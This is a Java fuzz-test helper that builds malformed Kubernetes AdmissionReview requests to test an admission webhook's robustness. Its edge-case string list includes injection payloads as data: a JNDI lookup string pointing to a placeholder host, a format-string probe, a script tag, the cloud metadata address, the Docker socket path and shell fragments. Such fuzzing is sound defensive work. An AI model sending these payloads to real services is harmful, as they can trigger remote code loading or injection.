package dev.customs.reliability;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.IdentityHashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

/**
 * Makes hostile variants of real AdmissionReviews for the fuzz test, deterministically from a {@link Random}: fields
 * dropped, duplicated (a key written twice), renamed or given another type, values replaced by edge cases (huge numbers,
 * lone surrogates, control characters, right-to-left overrides, 1 MB strings), containers nested thousands deep, lists
 * blown up to thousands of entries, subtrees grafted from other reviews, kinds and operations swapped; then, sometimes,
 * the bytes themselves truncated, overwritten or salted with invalid UTF-8. Bodies stay under 8 MiB, the HTTP limit, so
 * every one reaches Customs' own code.
 */
final class ReviewMutator {

    /** One input: the bytes to post and what was done to them, for the failure report. */
    record Input(byte[] body, String description) {
    }

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Below {@code quarkus.http.limits.max-body-size} (8M), so Customs itself answers every body. */
    static final int MAX_BODY = 7 * 1024 * 1024;

    private static final List<String> KINDS = List.of("Pod", "Deployment", "ReplicaSet", "StatefulSet", "DaemonSet",
            "Job", "CronJob", "ReplicationController", "ConfigMap", "Service", "pod", "PodTemplate", "");
    private static final List<String> OPERATIONS = List.of("CREATE", "UPDATE", "DELETE", "CONNECT", "create", "PATCH",
            "");
    private static final List<String> API_VERSIONS = List.of("admission.k8s.io/v1", "admission.k8s.io/v1beta1",
            "admission.k8s.io/v2", "v1", "");
    private static final List<String> KEYS = List.of("containers", "initContainers", "ephemeralContainers", "image",
            "securityContext", "runAsUser", "runAsNonRoot", "hostNetwork", "volumes", "hostPath", "path", "command",
            "args", "nodeSelector", "affinity", "template", "spec", "metadata", "namespace", "uid", "kind", "object",
            "oldObject", "request", "os", "name", "hostUsers", "jobTemplate", "imagePullSecrets");
    private static final List<String> STRINGS = List.of("", " ", "\u0000", "\ud800", "\udfff\ud800", "\u202e" + "toor",
            "e\u0301\u0301\u0301", "\ud83d\ude00", "\ufeff", "\r\n", "nginx", "nginx:latest", "nginx@sha256:" + "a".repeat(64),
            "nginx@sha256:zz", "registry.example.com:99999/app:1", "[::1]:5000/app:1", "169.254.169.254/app:1",
            "UPPER/Case:Tag", "a/b/c/d/e/f:g@sha256:" + "0".repeat(64), "/var/run/docker.sock", "/../../run//containerd/",
            "/", "sh", "-c", "/bin/sh -c 'exec x'", "root", "0", "-1", "0:0", "65536", "99999999999999999999", "windows",
            "linux", "kubernetes.io/arch", "amd64", "kube-system", "NPM_TOKEN=npm_" + "x".repeat(36),
            "${jndi:ldap://example.invalid/a}", "%s%n%x", "<script>", "true", "null", "{}", "[]",
            "\u0430dmission.k8s.io/v1");

    /**
     * The tree mutations of {@link #mutate}, each as often as it appears: small, type-level changes most often, the
     * heavy ones (deep nesting, huge strings, long lists) once each.
     */
    private static final int[] WEIGHTED_OPS = { 0, 0, 0, 1, 1, 1, 2, 2, 3, 3, 3, 4, 4, 5, 6, 7, 7, 8, 8, 9, 10, 10, 10,
            11, 11, 12, 12, 12 };

    private final Random random;
    private final List<JsonNode> fixtures;

    ReviewMutator(Random random, List<JsonNode> fixtures) {
        this.random = random;
        this.fixtures = fixtures;
    }

    /** A mutated review built from a random fixture. */
    Input next() {
        JsonNode base = fixtures.get(random.nextInt(fixtures.size())).deepCopy();
        List<String> done = new ArrayList<>();
        Map<ObjectNode, List<Map.Entry<String, JsonNode>>> duplicates = new IdentityHashMap<>();
        Map<JsonNode, String> raw = new IdentityHashMap<>();
        JsonNode root = base;
        int n = random.nextInt(10) == 0 ? 0 : 1 + random.nextInt(4);
        boolean huge = false;
        for (int i = 0; i < n; i++) {
            int op = WEIGHTED_OPS[random.nextInt(WEIGHTED_OPS.length)];
            if (op == 6 && huge) {
                op = 1;
            }
            root = mutate(root, op, done, duplicates, raw);
            huge |= op == 6 || op == 9;
        }
        byte[] body = write(root, duplicates, raw);
        if (body.length > MAX_BODY) {
            // escapes can blow a huge string up sixfold: draw again rather than meet the HTTP layer's 413
            return next();
        }
        int bytes = random.nextInt(16);
        if (bytes == 0) {
            int at = body.length == 0 ? 0 : random.nextInt(body.length);
            done.add("truncated at byte " + at + " of " + body.length);
            body = Arrays.copyOf(body, at);
        } else if (bytes == 1 && body.length > 0) {
            int k = 1 + random.nextInt(16);
            for (int i = 0; i < k; i++) {
                body[random.nextInt(body.length)] = (byte) random.nextInt(256);
            }
            done.add(k + " random bytes overwritten");
        } else if (bytes == 2 && body.length > 0) {
            byte[][] bad = { { (byte) 0xC0, (byte) 0x80 }, { (byte) 0xFF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
                    { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 } };
            byte[] insert = bad[random.nextInt(bad.length)];
            int at = random.nextInt(body.length);
            byte[] out = new byte[body.length + insert.length];
            System.arraycopy(body, 0, out, 0, at);
            System.arraycopy(insert, 0, out, at, insert.length);
            System.arraycopy(body, at, out, at + insert.length, body.length - at);
            body = out;
            done.add("invalid UTF-8 inserted at byte " + at);
        } else if (bytes == 3 && random.nextInt(4) == 0) {
            body = new byte[random.nextInt(2048)];
            random.nextBytes(body);
            done.add("random bytes only");
        }
        return new Input(body, done.isEmpty() ? "unchanged" : String.join("; ", done));
    }

    private JsonNode mutate(JsonNode root, int op, List<String> done,
            Map<ObjectNode, List<Map.Entry<String, JsonNode>>> duplicates, Map<JsonNode, String> raw) {
        List<Slot> slots = new ArrayList<>();
        collect(root, "", slots);
        if (slots.isEmpty()) {
            done.add("root replaced");
            return value(2);
        }
        Slot s = slots.get(random.nextInt(slots.size()));
        switch (op) {
            case 0 -> {
                s.remove();
                done.add("dropped " + s.path);
            }
            case 1 -> {
                s.set(value(2));
                done.add("replaced " + s.path);
            }
            case 2 -> {
                s.set(NODES.nullNode());
                done.add("nulled " + s.path);
            }
            case 3 -> {
                s.set(flip(s.get()));
                done.add("changed the type of " + s.path);
            }
            case 4 -> {
                ObjectNode parent = s.parent instanceof ObjectNode o ? o : null;
                if (parent == null || s.field == null) {
                    s.set(value(1));
                    done.add("replaced " + s.path);
                } else {
                    duplicates.computeIfAbsent(parent, p -> new ArrayList<>()).add(Map.entry(s.field,
                            random.nextBoolean() ? s.get().deepCopy() : value(1)));
                    done.add("duplicated key " + s.path);
                }
            }
            case 5 -> {
                int[] depths = { 64, 256, 999, 1000, 1001, 3000, 20000 };
                int depth = depths[random.nextInt(depths.length)];
                // written as text when serialising: a tree this deep would overflow this class's own recursion
                StringBuilder open = new StringBuilder();
                StringBuilder close = new StringBuilder();
                for (int i = 0; i < depth; i++) {
                    if (random.nextBoolean()) {
                        open.append('[');
                        close.append(']');
                    } else {
                        open.append("{\"").append(KEYS.get(random.nextInt(KEYS.size()))).append("\":");
                        close.append('}');
                    }
                }
                JsonNode marker = TextNode.valueOf("nested-" + depth);
                raw.put(marker, open + value(0).toString() + close.reverse());
                s.set(marker);
                done.add("nested " + depth + " deep at " + s.path);
            }
            case 6 -> {
                int[] sizes = { 10_000, 300_000, 1_000_000 };
                int size = sizes[random.nextInt(sizes.length)];
                StringBuilder sb = new StringBuilder(size);
                String unit = STRINGS.get(random.nextInt(STRINGS.size()));
                while (sb.length() < size) {
                    sb.append(unit.isEmpty() ? "x" : unit);
                }
                s.set(TextNode.valueOf(sb.toString()));
                done.add("a " + size + "-character string at " + s.path);
            }
            case 7 -> {
                JsonNode donor = fixtures.get(random.nextInt(fixtures.size()));
                List<Slot> from = new ArrayList<>();
                collect(donor, "", from);
                if (!from.isEmpty()) {
                    Slot d = from.get(random.nextInt(from.size()));
                    s.set(d.get().deepCopy());
                    done.add("grafted " + d.path + " onto " + s.path);
                }
            }
            case 8 -> {
                ObjectNode req = root.path("request") instanceof ObjectNode r ? r : null;
                if (req == null) {
                    s.set(value(1));
                    done.add("replaced " + s.path);
                } else {
                    switch (random.nextInt(5)) {
                        case 0 -> objectAt(req, "kind").put("kind", pick(KINDS));
                        case 1 -> req.put("operation", pick(OPERATIONS));
                        case 2 -> ((ObjectNode) root).put("apiVersion", pick(API_VERSIONS));
                        case 3 -> req.put("subResource", pick(List.of("status", "ephemeralcontainers", "scale", "")));
                        default -> objectAt(req, "kind").put("version", pick(List.of("v1", "v1beta1", "v2", "")));
                    }
                    done.add("swapped the request's kind, operation, subresource or apiVersion");
                }
            }
            case 9 -> {
                ArrayNode array = firstArray(s.get());
                if (array == null || array.isEmpty()) {
                    s.set(value(1));
                    done.add("replaced " + s.path);
                } else {
                    int target = new int[] { 100, 1000, 5000 }[random.nextInt(3)];
                    int bytes = array.toString().length() / array.size() + 1;
                    target = Math.min(target, 2_000_000 / bytes);
                    List<JsonNode> copy = new ArrayList<>();
                    array.forEach(copy::add);
                    while (array.size() < target) {
                        array.add(copy.get(random.nextInt(copy.size())).deepCopy());
                    }
                    done.add("a list grown to " + array.size() + " entries under " + s.path);
                }
            }
            case 10 -> {
                s.set(TextNode.valueOf(pick(STRINGS)));
                done.add("an edge-case string at " + s.path);
            }
            case 11 -> {
                if (s.parent instanceof ObjectNode o && s.field != null) {
                    JsonNode v = o.remove(s.field);
                    String renamed = switch (random.nextInt(4)) {
                        case 0 -> s.field.toUpperCase(Locale.ROOT);
                        case 1 -> s.field + " ";
                        case 2 -> s.field.replace('o', '\u043e');
                        default -> pick(KEYS);
                    };
                    o.set(renamed, v);
                    done.add("renamed " + s.path);
                }
            }
            default -> {
                s.set(number());
                done.add("an edge-case number at " + s.path);
            }
        }
        return root;
    }

    private static ObjectNode objectAt(ObjectNode parent, String field) {
        return parent.get(field) instanceof ObjectNode o ? o : parent.putObject(field);
    }

    private static ArrayNode firstArray(JsonNode n) {
        if (n instanceof ArrayNode a) {
            return a;
        }
        for (JsonNode c : n) {
            ArrayNode a = firstArray(c);
            if (a != null) {
                return a;
            }
        }
        return null;
    }

    private JsonNode flip(JsonNode n) {
        if (n.isObject()) {
            ArrayNode a = NODES.arrayNode();
            n.forEach(a::add);
            return a;
        }
        if (n.isArray()) {
            ObjectNode o = NODES.objectNode();
            int i = 0;
            for (JsonNode c : n) {
                o.set(String.valueOf(i++), c);
            }
            return o;
        }
        if (n.isTextual()) {
            return random.nextBoolean() ? number() : NODES.booleanNode(true);
        }
        if (n.isNumber() || n.isBoolean()) {
            return TextNode.valueOf(n.asText());
        }
        return value(1);
    }

    private JsonNode number() {
        return switch (random.nextInt(10)) {
            case 0 -> NODES.numberNode(-1);
            case 1 -> NODES.numberNode(Long.MIN_VALUE);
            case 2 -> NODES.numberNode(new BigInteger("9223372036854775808"));
            case 3 -> NODES.numberNode(new BigInteger("1" + "0".repeat(400)));
            case 4 -> NODES.numberNode(new BigDecimal("1e400"));
            case 5 -> NODES.numberNode(-0.0);
            case 6 -> NODES.numberNode(1.5);
            case 7 -> NODES.numberNode(Integer.MAX_VALUE);
            case 8 -> NODES.numberNode(0);
            default -> NODES.numberNode(random.nextLong());
        };
    }

    private JsonNode value(int depth) {
        int kind = random.nextInt(depth > 0 ? 7 : 5);
        return switch (kind) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> number();
            case 3, 4 -> TextNode.valueOf(pick(STRINGS));
            case 5 -> {
                ArrayNode a = NODES.arrayNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    a.add(value(depth - 1));
                }
                yield a;
            }
            default -> {
                ObjectNode o = NODES.objectNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    o.set(pick(KEYS), value(depth - 1));
                }
                yield o;
            }
        };
    }

    private String pick(List<String> from) {
        return from.get(random.nextInt(from.size()));
    }

    /** A place in the tree: a field of an object or an element of an array. */
    private static final class Slot {
        final ContainerNode<?> parent;
        final String field;
        final int index;
        final String path;

        Slot(ContainerNode<?> parent, String field, int index, String path) {
            this.parent = parent;
            this.field = field;
            this.index = index;
            this.path = path;
        }

        JsonNode get() {
            return field != null ? parent.get(field) : parent.get(index);
        }

        void set(JsonNode v) {
            if (parent instanceof ObjectNode o) {
                o.set(field, v);
            } else if (parent instanceof ArrayNode a && index < a.size()) {
                a.set(index, v);
            }
        }

        void remove() {
            if (parent instanceof ObjectNode o) {
                o.remove(field);
            } else if (parent instanceof ArrayNode a && index < a.size()) {
                a.remove(index);
            }
        }
    }

    private static void collect(JsonNode n, String path, List<Slot> out) {
        if (n instanceof ObjectNode o) {
            for (Iterator<Map.Entry<String, JsonNode>> it = o.fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> e = it.next();
                String p = path.isEmpty() ? e.getKey() : path + "." + e.getKey();
                out.add(new Slot(o, e.getKey(), -1, p));
                collect(e.getValue(), p, out);
            }
        } else if (n instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                String p = path + "[" + i + "]";
                out.add(new Slot(a, null, i, p));
                collect(a.get(i), p, out);
            }
        }
    }

    /**
     * Serialises a tree the way Jackson would, plus the duplicate keys asked for, the raw text that stands for some
     * nodes, and with lone surrogates written as {@code \}{@code uD800} escapes (Jackson refuses to write them, but a
     * client may send them).
     */
    static byte[] write(JsonNode root, Map<ObjectNode, List<Map.Entry<String, JsonNode>>> duplicates,
            Map<JsonNode, String> raw) {
        StringBuilder sb = new StringBuilder();
        new Writer(duplicates, raw, sb).write(root);
        return sb.toString().getBytes(StandardCharsets.UTF_8);
    }

    private record Writer(Map<ObjectNode, List<Map.Entry<String, JsonNode>>> duplicates, Map<JsonNode, String> raw,
            StringBuilder sb) {

        void write(JsonNode n) {
            if (raw.containsKey(n)) {
                sb.append(raw.get(n));
            } else if (n instanceof ObjectNode o) {
                sb.append('{');
                boolean first = true;
                List<Map.Entry<String, JsonNode>> fields = new ArrayList<>();
                o.fields().forEachRemaining(fields::add);
                fields.addAll(duplicates.getOrDefault(o, List.of()));
                for (Map.Entry<String, JsonNode> e : fields) {
                    if (!first) {
                        sb.append(',');
                    }
                    first = false;
                    string(e.getKey(), sb);
                    sb.append(':');
                    write(e.getValue());
                }
                sb.append('}');
            } else if (n instanceof ArrayNode a) {
                sb.append('[');
                for (int i = 0; i < a.size(); i++) {
                    if (i > 0) {
                        sb.append(',');
                    }
                    write(a.get(i));
                }
                sb.append(']');
            } else if (n.isTextual()) {
                string(n.textValue(), sb);
            } else {
                sb.append(n.toString());
            }
        }

    }

    private static void string(String s, StringBuilder sb) {
        sb.append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                sb.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) && !pairedSurrogate(s, i)) {
                sb.append(String.format("\\u%04x", (int) c));
            } else if (Character.isHighSurrogate(c)) {
                sb.append(c).append(s.charAt(++i));
            } else {
                sb.append(c);
            }
        }
        sb.append('"');
    }

    private static boolean pairedSurrogate(String s, int i) {
        char c = s.charAt(i);
        return Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1));
    }
}
